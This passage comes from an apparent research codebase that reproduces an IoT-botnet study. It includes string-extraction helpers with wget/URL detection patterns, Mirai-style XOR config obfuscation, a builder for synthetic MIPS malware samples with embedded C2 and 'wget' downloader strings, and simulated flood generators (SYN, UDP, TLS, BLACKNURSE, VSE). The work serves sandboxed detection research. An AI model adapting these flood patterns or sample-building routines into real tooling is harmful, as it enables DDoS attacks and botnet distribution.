        cols = self._cols if self._cols is not None and len(self._cols) \
            else None
        return ("columnar-v1", self._packets, cols, self.label)

    def __setstate__(self, state) -> None:
        if len(state) == 4 and state[0] == "columnar-v1":
            _tag, self._packets, self._cols, self.label = state
        else:
            self._packets, self.label = state
            self._cols = None

    # -- field-level reads --------------------------------------------------

    def iter_rows(self) -> Iterator[tuple]:
        """Every packet as a tuple in :class:`Packet` field order.

        ``(src, dst, protocol, sport, dport, payload, flags, seq, ack,
        ttl, icmp_type, icmp_code, timestamp)`` — already-materialized
        packets are decomposed, columnar rows are yielded directly, so
        iterating never triggers materialization.  ``Packet(*row)``
        rebuilds the equivalent object when one is genuinely needed.
        """
        for p in self._packets:
            yield (p.src, p.dst, p.protocol, p.sport, p.dport, p.payload,
                   p.flags, p.seq, p.ack, p.ttl, p.icmp_type, p.icmp_code,
                   p.timestamp)
        cols = self._cols
        if cols is not None:
            yield from cols.iter_rows()

    # -- queries -----------------------------------------------------------

    def between(self, start: float, end: float) -> "Capture":
        """Packets with ``start <= timestamp < end``."""
        return Capture(
            [p for p in self.packets if start <= p.timestamp < end], self.label
        )

    def involving(self, address: int) -> "Capture":
        """Packets where ``address`` is source or destination."""
        return Capture(
            [p for p in self.packets if address in (p.src, p.dst)], self.label
        )

    def to_host(self, address: int) -> "Capture":
        return Capture([p for p in self.packets if p.dst == address], self.label)

    def from_host(self, address: int) -> "Capture":
        return Capture([p for p in self.packets if p.src == address], self.label)

    def by_protocol(self, protocol: Protocol) -> "Capture":
        return Capture(
            [p for p in self.packets if p.protocol == protocol], self.label
        )

    def destinations(self) -> set[int]:
        return {row[1] for row in self.iter_rows()}

    def destination_ports(self, protocol: Protocol | None = None) -> dict[int, int]:
        """Map of destination port -> packet count."""
        counts: dict[int, int] = {}
        for row in self.iter_rows():
            if protocol is not None and row[2] != protocol:
                continue
            counts[row[4]] = counts.get(row[4], 0) + 1
        return counts

    def duration(self) -> float:
        if not len(self):
            return 0.0
        times = [row[12] for row in self.iter_rows()]
        return max(times) - min(times)

    def total_bytes(self) -> int:
        return sum(_row_size(row[2], row[5]) for row in self.iter_rows())

    def packets_per_second(self) -> float:
        """Mean packet rate across the capture (0 for <2 packets)."""
        span = self.duration()
        if span <= 0:
            return 0.0
        return len(self) / span

    # -- persistence ---------------------------------------------------------

    def to_pcap_bytes(self) -> bytes:
        import io

        buf = io.BytesIO()
        writer = PcapWriter(buf)
        writer.write_all(self.packets)
        return buf.getvalue()

    def save(self, path: str) -> None:
        with open(path, "wb") as fh:
            fh.write(self.to_pcap_bytes())

    @classmethod
    def from_pcap_bytes(cls, data: bytes, label: str = "") -> "Capture":
        import io

        reader = PcapReader(io.BytesIO(data))
        return cls(list(reader), label)

    @classmethod
    def load(cls, path: str) -> "Capture":
        with open(path, "rb") as fh:
            return cls.from_pcap_bytes(fh.read(), label=path)
