"""Printable-string extraction from binaries (``strings``-style triage).

Used by the YARA-like rule engine and by manual-verification helpers: the
paper cross-checks unknown C2s by comparing captured traffic and binary
artifacts against known family patterns (section 2.3).
"""

from __future__ import annotations

import re

_PRINTABLE = re.compile(rb"[\x20-\x7e]{%d,}")


def extract_strings(data: bytes, min_length: int = 4) -> list[str]:
    """All printable-ASCII runs of at least ``min_length`` characters."""
    if min_length < 1:
        raise ValueError("min_length must be >= 1")
    pattern = re.compile(rb"[\x20-\x7e]{" + str(min_length).encode() + rb",}")
    return [m.group().decode("ascii") for m in pattern.finditer(data)]


def contains_any(data: bytes, needles: list[bytes]) -> bool:
    """True if any needle occurs in the raw bytes."""
    return any(needle in data for needle in needles)


_IP_RE = re.compile(
    r"\b(?:(?:25[0-5]|2[0-4]\d|1?\d?\d)\.){3}(?:25[0-5]|2[0-4]\d|1?\d?\d)\b"
)
_DOMAIN_RE = re.compile(
    r"\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+"
    r"(?:com|net|org|info|biz|xyz|ru|cn|top|cc|pw|example)\b"
)
_URL_RE = re.compile(r"https?://[^\s\x00\"']+|wget http://[^\s\x00\"']+")


def extract_ips(data: bytes) -> list[str]:
    """Dotted-quad IPv4 literals found in the binary's strings."""
    found: list[str] = []
    for text in extract_strings(data, min_length=7):
        found.extend(_IP_RE.findall(text))
    return sorted(set(found))


def extract_domains(data: bytes) -> list[str]:
    """Domain-name literals found in the binary's strings."""
    found: list[str] = []
    for text in extract_strings(data, min_length=4):
        found.extend(_DOMAIN_RE.findall(text.lower()))
    return sorted(set(found))


def extract_urls(data: bytes) -> list[str]:
    """URL-ish literals (http(s):// and wget fragments)."""
    found: list[str] = []
    for text in extract_strings(data, min_length=8):
        found.extend(_URL_RE.findall(text))
    return sorted(set(found))
