"""Bot configuration blobs and Mirai-style XOR obfuscation.

Real IoT malware embeds its operational parameters — C2 address, scan
ports, attack arsenal, loader/downloader URL — inside the binary.  Mirai
famously obfuscates its config table with a 4-byte XOR key (0xDEADBEEF in
the leaked source).  Our synthetic binaries do the same: the sandbox's
"emulation" recovers the config from the ``.config`` section, decrypting
it when the family obfuscates, which is the moral equivalent of executing
the unpacking stub under QEMU.

The cleartext format is a tagged length-value encoding so it survives
byte-level corruption checks and supports optional fields.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

from ..netsim.addresses import is_ip_literal

MAGIC = b"BCFG"

#: Mirai's leaked source uses table_key = 0xdeadbeef (applied byte-wise).
MIRAI_TABLE_KEY = 0xDEADBEEF

# Tag values for the TLV fields.
TAG_FAMILY = 1
TAG_C2_HOST = 2        # dotted IP or domain name (ascii)
TAG_C2_PORT = 3
TAG_SCAN_PORTS = 4     # sequence of u16
TAG_EXPLOIT_IDS = 5    # sequence of u16 vulnerability ids
TAG_LOADER_NAME = 6
TAG_DOWNLOADER = 7     # "host:port" of the loader/download server
TAG_ATTACKS = 8        # comma-separated attack method names
TAG_VARIANT = 9
TAG_P2P_BOOTSTRAP = 10 # comma-separated peer "ip:port" list
TAG_DGA_SEED = 11      # u32 schedule seed; presence marks a DGA config


class ConfigError(ValueError):
    """Raised when a config blob cannot be decoded."""


@dataclass
class BotConfig:
    """Operational parameters embedded in a synthetic malware binary."""

    family: str
    c2_host: str = ""
    c2_port: int = 0
    scan_ports: list[int] = field(default_factory=list)
    exploit_ids: list[int] = field(default_factory=list)
    loader_name: str = ""
    downloader: str = ""
    attacks: list[str] = field(default_factory=list)
    variant: str = ""
    p2p_bootstrap: list[str] = field(default_factory=list)
    dga_seed: int = 0

    @property
    def uses_dns(self) -> bool:
        """True when the C2 endpoint is a domain name rather than an IP."""
        return bool(self.c2_host) and not is_ip_literal(self.c2_host)

    @property
    def uses_dga(self) -> bool:
        """DGA configs carry a schedule seed instead of a C2 host."""
        return self.dga_seed != 0

    @property
    def is_p2p(self) -> bool:
        """P2P families (Mozi/Hajime) have bootstrap peers, not a C2."""
        return bool(self.p2p_bootstrap)

    # -- TLV encoding --------------------------------------------------------

    def encode(self) -> bytes:
        out = bytearray(MAGIC)

        def put(tag: int, payload: bytes) -> None:
            if len(payload) > 0xFFFF:
                raise ConfigError(f"field {tag} too long")
            out.extend(struct.pack("!BH", tag, len(payload)))
            out.extend(payload)

        put(TAG_FAMILY, self.family.encode("ascii"))
        if self.c2_host:
            put(TAG_C2_HOST, self.c2_host.encode("ascii"))
        if self.c2_port:
            put(TAG_C2_PORT, struct.pack("!H", self.c2_port))
        if self.scan_ports:
            put(TAG_SCAN_PORTS, struct.pack(f"!{len(self.scan_ports)}H", *self.scan_ports))
        if self.exploit_ids:
            put(TAG_EXPLOIT_IDS, struct.pack(f"!{len(self.exploit_ids)}H", *self.exploit_ids))
        if self.loader_name:
            put(TAG_LOADER_NAME, self.loader_name.encode("ascii"))
        if self.downloader:
            put(TAG_DOWNLOADER, self.downloader.encode("ascii"))
        if self.attacks:
            put(TAG_ATTACKS, ",".join(self.attacks).encode("ascii"))
        if self.variant:
            put(TAG_VARIANT, self.variant.encode("ascii"))
        if self.p2p_bootstrap:
            put(TAG_P2P_BOOTSTRAP, ",".join(self.p2p_bootstrap).encode("ascii"))
        if self.dga_seed:
            put(TAG_DGA_SEED, struct.pack("!I", self.dga_seed))
        return bytes(out)

    @classmethod
    def decode(cls, data: bytes) -> "BotConfig":
        if not data.startswith(MAGIC):
            raise ConfigError("bad config magic")
        offset = len(MAGIC)
        fields: dict[int, bytes] = {}
        while offset < len(data):
            if offset + 3 > len(data):
                raise ConfigError("truncated TLV header")
            tag, length = struct.unpack("!BH", data[offset : offset + 3])
            offset += 3
            if offset + length > len(data):
                raise ConfigError("truncated TLV payload")
            fields[tag] = data[offset : offset + length]
            offset += length
        if TAG_FAMILY not in fields:
            raise ConfigError("missing family field")

        def text(tag: int) -> str:
            return fields.get(tag, b"").decode("ascii")

        def u16_list(tag: int) -> list[int]:
            raw = fields.get(tag, b"")
            if len(raw) % 2:
                raise ConfigError(f"odd u16 list for tag {tag}")
            return list(struct.unpack(f"!{len(raw) // 2}H", raw))

        def csv(tag: int) -> list[str]:
            raw = text(tag)
            return raw.split(",") if raw else []

        c2_port = 0
        if TAG_C2_PORT in fields:
            if len(fields[TAG_C2_PORT]) != 2:
                raise ConfigError("bad c2 port field")
            (c2_port,) = struct.unpack("!H", fields[TAG_C2_PORT])
        dga_seed = 0
        if TAG_DGA_SEED in fields:
            if len(fields[TAG_DGA_SEED]) != 4:
                raise ConfigError("bad dga seed field")
            (dga_seed,) = struct.unpack("!I", fields[TAG_DGA_SEED])
        return cls(
            family=text(TAG_FAMILY),
            c2_host=text(TAG_C2_HOST),
            c2_port=c2_port,
            scan_ports=u16_list(TAG_SCAN_PORTS),
            exploit_ids=u16_list(TAG_EXPLOIT_IDS),
            loader_name=text(TAG_LOADER_NAME),
            downloader=text(TAG_DOWNLOADER),
            attacks=csv(TAG_ATTACKS),
            variant=text(TAG_VARIANT),
            p2p_bootstrap=csv(TAG_P2P_BOOTSTRAP),
            dga_seed=dga_seed,
        )


def xor_obfuscate(data: bytes, key: int = MIRAI_TABLE_KEY) -> bytes:
    """Mirai table obfuscation: XOR each byte with the folded 4-byte key.

    Mirai's ``table.c`` folds the 32-bit key to a single byte
    (``k1^k2^k3^k4``) and XORs every byte with it; the operation is its own
    inverse.
    """
    k = (key & 0xFF) ^ ((key >> 8) & 0xFF) ^ ((key >> 16) & 0xFF) ^ ((key >> 24) & 0xFF)
    return bytes(b ^ k for b in data)


def xor_deobfuscate(data: bytes, key: int = MIRAI_TABLE_KEY) -> bytes:
    """Inverse of :func:`xor_obfuscate` (XOR is an involution)."""
    return xor_obfuscate(data, key)


def pack_config(config: BotConfig, obfuscate: bool) -> bytes:
    """Produce the ``.config`` section payload, optionally obfuscated.

    A 1-byte flag prefix records whether the rest is XORed so the sandbox
    can mimic the unpacking the real bot performs at startup.
    """
    body = config.encode()
    if obfuscate:
        return b"\x01" + xor_obfuscate(body)
    return b"\x00" + body


def unpack_config(payload: bytes) -> BotConfig:
    """Recover a :class:`BotConfig` from a ``.config`` section payload."""
    if not payload:
        raise ConfigError("empty config payload")
    flag, body = payload[0], payload[1:]
    if flag == 1:
        body = xor_deobfuscate(body)
    elif flag != 0:
        raise ConfigError(f"unknown obfuscation flag {flag}")
    return BotConfig.decode(body)
