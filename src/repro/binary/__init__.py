"""Synthetic MIPS 32B malware binary substrate: ELF, configs, builder."""

from .builder import MalwareSample, build_chaff, build_sample
from .config import (
    BotConfig,
    ConfigError,
    MIRAI_TABLE_KEY,
    pack_config,
    unpack_config,
    xor_deobfuscate,
    xor_obfuscate,
)
from .elf import ElfError, ElfImage, Section, is_mips32_elf, machine_name
from .strings import (
    contains_any,
    extract_domains,
    extract_ips,
    extract_strings,
    extract_urls,
)

__all__ = [
    "BotConfig",
    "ConfigError",
    "ElfError",
    "ElfImage",
    "MIRAI_TABLE_KEY",
    "MalwareSample",
    "Section",
    "build_chaff",
    "build_sample",
    "contains_any",
    "extract_domains",
    "extract_ips",
    "extract_strings",
    "extract_urls",
    "is_mips32_elf",
    "machine_name",
    "pack_config",
    "unpack_config",
    "xor_deobfuscate",
    "xor_obfuscate",
]
