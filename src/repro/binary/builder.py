"""Synthetic malware sample builder.

Produces the MIPS 32B ELF binaries the collection pipeline ingests.  Each
sample is a real ELF32 image whose ``.config`` section carries the bot's
operational parameters (obfuscated for families that do so), with
plausible ``.text`` (random MIPS-encoded words) and ``.rodata`` (shell
strings, busybox artifacts, the loader name) so that strings-based triage
and YARA-like rules have something genuine to match.

The builder also produces *chaff*: ARM/x86 binaries and non-ELF junk, used
to validate the collector's MIPS 32B filter.
"""

from __future__ import annotations

import hashlib
import random
from dataclasses import dataclass, field

from ..botnet.families import FAMILIES, get_family
from .config import BotConfig, pack_config
from .elf import EM_386, EM_ARM, EM_MIPS, ElfImage

#: Strings commonly observed in IoT malware .rodata (busybox probes, shell
#: fragments, scanner credentials).  These are what crowd-sourced YARA
#: rules key on.
_COMMON_RODATA = (
    b"/bin/busybox",
    b"POST /cdn-cgi/",
    b"enable\x00system\x00shell\x00sh\x00",
    b"/dev/watchdog",
    b"/proc/net/tcp",
    b"GET /bins/",
)

_FAMILY_MARKERS: dict[str, bytes] = {
    "mirai": b"/bin/busybox MIRAI",
    "gafgyt": b"PONG!\x00BOGOMIPS\x00gafgyt",
    "tsunami": b"NICK %s\x00USER %s localhost localhost :%s\x00tsunami",
    "daddyl33t": b"daddyl33t\x00HYDRASYN\x00UDPRAW",
    "mozi": b"Mozi.m\x00dht.transmissionbt.com",
    "hajime": b"atk.\x00hajime\x00.i.",
    "vpnfilter": b"vpnfilter\x00tor\x00ssler",
}


@dataclass
class MalwareSample:
    """One synthetic binary plus its build-time ground truth."""

    data: bytes
    config: BotConfig
    family: str
    variant: str
    #: build-time identity; the pipeline must rediscover everything else
    sha256: str = field(init=False)

    def __post_init__(self) -> None:
        self.sha256 = hashlib.sha256(self.data).hexdigest()

    def __len__(self) -> int:
        return len(self.data)


def _mips_text(rng: random.Random, words: int) -> bytes:
    """Plausible big-endian MIPS machine words for a ``.text`` section.

    Mixes common opcodes (addiu, lw, sw, jal, nop) so entropy resembles
    real code rather than random bytes.
    """
    opcodes = (0x24000000, 0x8C000000, 0xAC000000, 0x0C000000, 0x00000000,
               0x10000000, 0x27BD0000, 0x03E00008)
    out = bytearray()
    for _ in range(words):
        word = rng.choice(opcodes) | rng.randrange(0, 1 << 16)
        out += word.to_bytes(4, "big")
    return bytes(out)


def _arm_text(rng: random.Random, words: int) -> bytes:
    """Plausible little-endian ARM (A32) words (mov, ldr, str, bl, bx lr)."""
    opcodes = (0xE3A00000, 0xE5900000, 0xE5800000, 0xEB000000, 0xE12FFF1E,
               0xE92D4800, 0xE8BD8800)
    out = bytearray()
    for _ in range(words):
        word = rng.choice(opcodes) | rng.randrange(0, 1 << 12)
        out += word.to_bytes(4, "little")
    return bytes(out)


def _rodata(rng: random.Random, config: BotConfig) -> bytes:
    """Assemble a .rodata blob with family markers and config echoes."""
    chunks = [_FAMILY_MARKERS.get(config.family, b"")]
    chunks.extend(rng.sample(_COMMON_RODATA, k=rng.randrange(2, 5)))
    if config.loader_name:
        chunks.append(config.loader_name.encode("ascii") + b"\x00")
    if config.downloader:
        chunks.append(b"wget http://" + config.downloader.encode("ascii") + b"/")
    # Unobfuscated families leak the C2 endpoint as a plain string.
    family = FAMILIES.get(config.family)
    if config.c2_host and (family is None or not family.obfuscated_config):
        chunks.append(config.c2_host.encode("ascii") + b"\x00")
    rng.shuffle(chunks)
    return b"\x00".join(chunks)


def build_sample(
    config: BotConfig,
    rng: random.Random,
    variant: str = "",
    endianness: str = "big",
    arch: str = "mips",
) -> MalwareSample:
    """Build one ELF sample embedding ``config``.

    ``arch`` is ``"mips"`` (default, big-endian as on most consumer IoT
    devices) or ``"arm"`` (little-endian) — the multi-architecture
    extension of paper section 6d.
    """
    family = get_family(config.family)
    if arch == "mips":
        image = ElfImage(machine=EM_MIPS, endianness=endianness)
        text = _mips_text(rng, rng.randrange(256, 2048))
    elif arch == "arm":
        image = ElfImage(machine=EM_ARM, endianness="little")
        text = _arm_text(rng, rng.randrange(256, 2048))
    else:
        raise ValueError(f"unsupported build architecture {arch!r}")
    image.add_section(".text", text)
    image.add_section(".rodata", _rodata(rng, config))
    image.add_section(".config", pack_config(config, family.obfuscated_config))
    return MalwareSample(
        data=image.encode(),
        config=config,
        family=config.family,
        variant=variant or config.variant or family.variants[0],
    )


def build_chaff(rng: random.Random, kind: str = "arm") -> bytes:
    """Build a non-MIPS-32B artifact for collector-filter testing.

    ``kind`` is one of ``"arm"``, ``"x86"``, ``"junk"`` (not an ELF at
    all), or ``"truncated"`` (ELF magic, cut short).
    """
    if kind == "junk":
        return bytes(rng.randrange(256) for _ in range(rng.randrange(64, 512)))
    if kind == "truncated":
        return b"\x7fELF" + bytes(rng.randrange(256) for _ in range(8))
    machine = EM_ARM if kind == "arm" else EM_386
    image = ElfImage(machine=machine, endianness="little")
    image.add_section(".text", bytes(rng.randrange(256) for _ in range(256)))
    return image.encode()
