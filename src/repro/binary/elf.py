"""Minimal ELF32 encoder/parser for synthetic MIPS malware binaries.

The study is restricted to MIPS 32-bit executables (section 2.1), so the
collection pipeline must be able to recognize them — real feeds deliver
binaries for many architectures and MalNet filters on the ELF header.
This module builds and parses genuine ELF32 images: magic, class,
endianness, ``e_machine`` (EM_MIPS = 8), entry point, program headers and a
section table carrying the synthetic ``.text``, ``.rodata`` and the
Mirai-style ``.config`` blob.

Parsing is strict enough to reject non-ELF files, 64-bit ELFs and non-MIPS
machines, which is exactly the filtering MalNet's collector performs.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

ELF_MAGIC = b"\x7fELF"
ELFCLASS32 = 1
ELFCLASS64 = 2
ELFDATA2LSB = 1  # little endian
ELFDATA2MSB = 2  # big endian
EV_CURRENT = 1
ET_EXEC = 2
EM_MIPS = 8
EM_ARM = 40
EM_386 = 3
EM_X86_64 = 62

EHDR_SIZE = 52
PHDR_SIZE = 32
SHDR_SIZE = 40
PT_LOAD = 1
SHT_PROGBITS = 1
SHT_STRTAB = 3

#: Default virtual base address used by uClibc-style MIPS executables.
DEFAULT_VADDR = 0x00400000


class ElfError(ValueError):
    """Raised when bytes are not a parseable ELF32 image."""


@dataclass
class Section:
    """A named section with raw contents."""

    name: str
    data: bytes
    sh_type: int = SHT_PROGBITS


@dataclass
class ElfImage:
    """An in-memory ELF32 executable with named sections.

    ``endianness`` is ``"big"`` or ``"little"``; the vast majority of
    consumer MIPS IoT devices are big-endian, which the builder uses as its
    default.
    """

    machine: int = EM_MIPS
    endianness: str = "big"
    entry: int = DEFAULT_VADDR + EHDR_SIZE + PHDR_SIZE
    sections: list[Section] = field(default_factory=list)

    @property
    def is_mips32(self) -> bool:
        return self.machine == EM_MIPS

    def section(self, name: str) -> Section | None:
        for sec in self.sections:
            if sec.name == name:
                return sec
        return None

    def add_section(self, name: str, data: bytes, sh_type: int = SHT_PROGBITS) -> None:
        if self.section(name) is not None:
            raise ElfError(f"duplicate section {name!r}")
        self.sections.append(Section(name, data, sh_type))

    # -- encoding ----------------------------------------------------------

    def encode(self) -> bytes:
        """Serialize to a valid ELF32 byte image."""
        order = ">" if self.endianness == "big" else "<"
        ei_data = ELFDATA2MSB if self.endianness == "big" else ELFDATA2LSB

        # Layout: ehdr | phdr | section datas... | shstrtab | shdrs
        shstrtab = bytearray(b"\x00")
        name_offsets: list[int] = []
        for sec in self.sections:
            name_offsets.append(len(shstrtab))
            shstrtab += sec.name.encode("ascii") + b"\x00"
        shstrtab_name_off = len(shstrtab)
        shstrtab += b".shstrtab\x00"

        offset = EHDR_SIZE + PHDR_SIZE
        section_offsets: list[int] = []
        blob = bytearray()
        for sec in self.sections:
            section_offsets.append(offset + len(blob))
            blob += sec.data
        shstrtab_offset = offset + len(blob)
        blob += bytes(shstrtab)
        shoff = offset + len(blob)

        shnum = len(self.sections) + 2  # null + shstrtab
        ident = ELF_MAGIC + bytes([ELFCLASS32, ei_data, EV_CURRENT]) + b"\x00" * 9
        ehdr = ident + struct.pack(
            order + "HHIIIIIHHHHHH",
            ET_EXEC,
            self.machine,
            EV_CURRENT,
            self.entry,
            EHDR_SIZE,        # e_phoff
            shoff,            # e_shoff
            0,                # e_flags
            EHDR_SIZE,
            PHDR_SIZE,
            1,                # e_phnum
            SHDR_SIZE,
            shnum,
            shnum - 1,        # e_shstrndx
        )
        filesz = shoff + shnum * SHDR_SIZE
        phdr = struct.pack(
            order + "IIIIIIII",
            PT_LOAD, 0, DEFAULT_VADDR, DEFAULT_VADDR, filesz, filesz, 7, 0x1000
        )

        shdrs = bytearray(struct.pack(order + "IIIIIIIIII", *([0] * 10)))  # null
        for sec, name_off, data_off in zip(
            self.sections, name_offsets, section_offsets
        ):
            shdrs += struct.pack(
                order + "IIIIIIIIII",
                name_off,
                sec.sh_type,
                0,                        # flags
                DEFAULT_VADDR + data_off, # addr
                data_off,
                len(sec.data),
                0, 0, 4, 0,
            )
        shdrs += struct.pack(
            order + "IIIIIIIIII",
            shstrtab_name_off, SHT_STRTAB, 0, 0,
            shstrtab_offset, len(shstrtab), 0, 0, 1, 0,
        )
        return bytes(ehdr) + phdr + bytes(blob) + bytes(shdrs)

    # -- decoding ----------------------------------------------------------

    @classmethod
    def parse(cls, data: bytes) -> "ElfImage":
        """Parse an ELF32 image produced by :meth:`encode` (or compatible)."""
        if len(data) < EHDR_SIZE:
            raise ElfError("file shorter than an ELF header")
        if data[:4] != ELF_MAGIC:
            raise ElfError("bad ELF magic")
        ei_class, ei_data, ei_version = data[4], data[5], data[6]
        if ei_class == ELFCLASS64:
            raise ElfError("64-bit ELF not supported (MIPS 32B study)")
        if ei_class != ELFCLASS32:
            raise ElfError(f"bad EI_CLASS {ei_class}")
        if ei_data not in (ELFDATA2LSB, ELFDATA2MSB):
            raise ElfError(f"bad EI_DATA {ei_data}")
        if ei_version != EV_CURRENT:
            raise ElfError(f"bad EI_VERSION {ei_version}")
        order = ">" if ei_data == ELFDATA2MSB else "<"
        (
            _etype, machine, _version, entry, _phoff, shoff, _flags,
            _ehsize, _phentsize, _phnum, shentsize, shnum, shstrndx,
        ) = struct.unpack(order + "HHIIIIIHHHHHH", data[16:EHDR_SIZE])
        image = cls(
            machine=machine,
            endianness="big" if ei_data == ELFDATA2MSB else "little",
            entry=entry,
        )
        if shoff == 0 or shnum == 0:
            return image
        if shentsize != SHDR_SIZE:
            raise ElfError(f"unexpected shentsize {shentsize}")
        if shoff + shnum * SHDR_SIZE > len(data):
            raise ElfError("section table out of bounds")

        headers = []
        for i in range(shnum):
            start = shoff + i * SHDR_SIZE
            headers.append(
                struct.unpack(order + "IIIIIIIIII", data[start : start + SHDR_SIZE])
            )
        if shstrndx >= shnum:
            raise ElfError("bad shstrndx")
        str_off, str_size = headers[shstrndx][4], headers[shstrndx][5]
        if str_off + str_size > len(data):
            raise ElfError("string table out of bounds")
        strtab = data[str_off : str_off + str_size]

        def name_at(offset: int) -> str:
            end = strtab.find(b"\x00", offset)
            if end < 0:
                raise ElfError("unterminated section name")
            return strtab[offset:end].decode("ascii", "replace")

        for i, hdr in enumerate(headers):
            name_off, sh_type, _fl, _addr, sec_off, sec_size = hdr[:6]
            if i == 0 or i == shstrndx or sh_type == 0:
                continue
            if sec_off + sec_size > len(data):
                raise ElfError("section data out of bounds")
            image.sections.append(
                Section(name_at(name_off), data[sec_off : sec_off + sec_size], sh_type)
            )
        return image


def is_mips32_elf(data: bytes) -> bool:
    """Cheap check used by the collector to filter MIPS 32B binaries."""
    try:
        return ElfImage.parse(data).is_mips32
    except ElfError:
        return False


#: architecture-name -> e_machine for the multi-arch extension (§6d)
ARCH_MACHINES: dict[str, int] = {
    "mips": EM_MIPS,
    "arm": EM_ARM,
    "x86": EM_386,
}


def is_supported_elf(data: bytes, machines: frozenset[int]) -> bool:
    """Collector filter for a configurable architecture set.

    The paper's deployment plan includes "expanding the supported
    architectures" (section 6d); with ``machines == {EM_MIPS}`` this is
    exactly :func:`is_mips32_elf`.
    """
    try:
        return ElfImage.parse(data).machine in machines
    except ElfError:
        return False


def machine_name(machine: int) -> str:
    """Human-readable CPU architecture name for triage output."""
    return {
        EM_MIPS: "MIPS",
        EM_ARM: "ARM",
        EM_386: "x86",
        EM_X86_64: "x86-64",
    }.get(machine, f"unknown({machine})")
