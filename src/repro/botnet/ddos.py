"""DDoS attack traffic generators — the 8 attack types of section 5.1.

Each generator turns an :class:`AttackCommand` into the packet stream a
bot would emit, reproducing the distinguishing behaviors the paper
describes per type (payloads, source-port strategies, protocol choice).
Packet counts are capped (the sandbox contains attacks anyway, section
2.6) but timestamps keep the real emission *rate*, because MalNet's
behavioral heuristic triggers on >100 packets/second (section 2.5b).
"""

from __future__ import annotations

import random
import string

from ..netsim.addresses import ephemeral_port
from ..netsim.packet import Packet, TcpFlags, icmp_packet, tcp_packet, udp_packet
from .protocols.base import (
    AttackCommand,
    METHOD_BLACKNURSE,
    METHOD_HYDRASYN,
    METHOD_NFO,
    METHOD_STD,
    METHOD_STOMP,
    METHOD_SYN,
    METHOD_TLS,
    METHOD_UDP,
    METHOD_UDPRAW,
    METHOD_VSE,
)

#: Nominal emission rate of a flooding bot (packets/second).  Far above
#: the 100 pps detection threshold, as in real attacks.
FLOOD_PPS = 1000.0

#: "TSource Engine Query" — the exact VSE amplification probe, from the
#: Valve Source Engine protocol (and the leaked Mirai source).
VSE_PROBE = b"\xff\xff\xff\xffTSource Engine Query\x00"

#: NFO attacks use a custom payload towards UDP port 238 (section 5.1).
NFO_PAYLOAD = b"NFOV6" + b"\x00" * 27


class AttackVariant:
    """Per-variant knobs the paper observed (section 5.1).

    * Mirai UDP: some variants keep one source port, others rotate.
    * Mirai SYN: (a) multi sport / one dport, (b) multi sport / multi dport.
    """

    def __init__(self, rotate_source_ports: bool = False,
                 rotate_dest_ports: bool = False):
        self.rotate_source_ports = rotate_source_ports
        self.rotate_dest_ports = rotate_dest_ports


def generate_attack(
    command: AttackCommand,
    bot_ip: int,
    rng: random.Random,
    start_time: float,
    max_packets: int = 400,
    variant: AttackVariant | None = None,
) -> list[Packet]:
    """Emit the (capped) packet stream for one attack command."""
    variant = variant or AttackVariant()
    builders = {
        METHOD_UDP: _udp_flood,
        METHOD_UDPRAW: _udp_flood,
        METHOD_SYN: _syn_flood,
        METHOD_HYDRASYN: _syn_flood,
        METHOD_TLS: _tls_attack,
        METHOD_BLACKNURSE: _blacknurse,
        METHOD_STOMP: _stomp,
        METHOD_VSE: _vse,
        METHOD_STD: _std,
        METHOD_NFO: _nfo,
    }
    builder = builders[command.method]
    count = min(max_packets, int(command.duration * FLOOD_PPS))
    return builder(command, bot_ip, rng, start_time, count, variant)


def _times(start: float, count: int):
    interval = 1.0 / FLOOD_PPS
    return (start + i * interval for i in range(count))


def _udp_flood(command, bot_ip, rng, start, count, variant):
    """UDP flood: continuous packets, null-byte payload (all 3 families)."""
    fixed_sport = ephemeral_port(rng)
    packets = []
    for ts in _times(start, count):
        sport = ephemeral_port(rng) if variant.rotate_source_ports else fixed_sport
        packets.append(
            udp_packet(bot_ip, command.target_ip, sport, command.target_port,
                       b"\x00", timestamp=ts)
        )
    return packets


def _syn_flood(command, bot_ip, rng, start, count, variant):
    """SYN flood: first-handshake packets from many source ports."""
    packets = []
    for ts in _times(start, count):
        dport = (
            rng.randrange(1, 65536) if variant.rotate_dest_ports
            else command.target_port
        )
        packets.append(
            tcp_packet(bot_ip, command.target_ip, ephemeral_port(rng), dport,
                       TcpFlags.SYN, seq=rng.randrange(1, 2**32),
                       timestamp=ts)
        )
    return packets


def _tls_attack(command, bot_ip, rng, start, count, variant):
    """TLS exhaustion.

    Daddyl33t flavor: repeated encoded messages at a UDP port (DTLS-ish).
    Mirai flavor: TCP handshake, chunked large message, RST, repeat.  The
    choice follows ``variant.rotate_source_ports`` being False (daddyl33t
    keeps one socket) vs True (Mirai re-opens).
    """
    packets = []
    if not variant.rotate_source_ports:
        sport = ephemeral_port(rng)
        blob = bytes(rng.randrange(256) for _ in range(48))
        for ts in _times(start, count):
            packets.append(
                udp_packet(bot_ip, command.target_ip, sport, command.target_port,
                           b"\x16\xfe\xfd" + blob, timestamp=ts)
            )
        return packets
    # Mirai TCP mode: handshake + chunked client-hello-like blob + RST
    per_round = 8
    rounds = max(1, count // per_round)
    interval = 1.0 / FLOOD_PPS
    ts = start
    for _ in range(rounds):
        sport = ephemeral_port(rng)
        seq = rng.randrange(1, 2**32)
        packets.append(tcp_packet(bot_ip, command.target_ip, sport,
                                  command.target_port, TcpFlags.SYN, seq=seq,
                                  timestamp=ts)); ts += interval
        packets.append(tcp_packet(bot_ip, command.target_ip, sport,
                                  command.target_port, TcpFlags.ACK,
                                  seq=seq + 1, timestamp=ts)); ts += interval
        for chunk in range(per_round - 3):
            payload = b"\x16\x03\x01" + bytes(rng.randrange(256) for _ in range(64))
            packets.append(
                tcp_packet(bot_ip, command.target_ip, sport, command.target_port,
                           TcpFlags.PSH | TcpFlags.ACK, payload,
                           seq=seq + 1 + chunk * 67, timestamp=ts))
            ts += interval
        packets.append(tcp_packet(bot_ip, command.target_ip, sport,
                                  command.target_port, TcpFlags.RST,
                                  timestamp=ts)); ts += interval
    return packets


def _blacknurse(command, bot_ip, rng, start, count, variant):
    """BLACKNURSE: unsolicited ICMP type 3 (code 3) floods (daddyl33t)."""
    return [
        icmp_packet(bot_ip, command.target_ip, icmp_type=3, icmp_code=3,
                    payload=bytes(28), timestamp=ts)
        for ts in _times(start, count)
    ]


def _stomp(command, bot_ip, rng, start, count, variant):
    """STOMP: TCP handshake then junk STOMP frames."""
    packets = []
    sport = ephemeral_port(rng)
    seq = rng.randrange(1, 2**32)
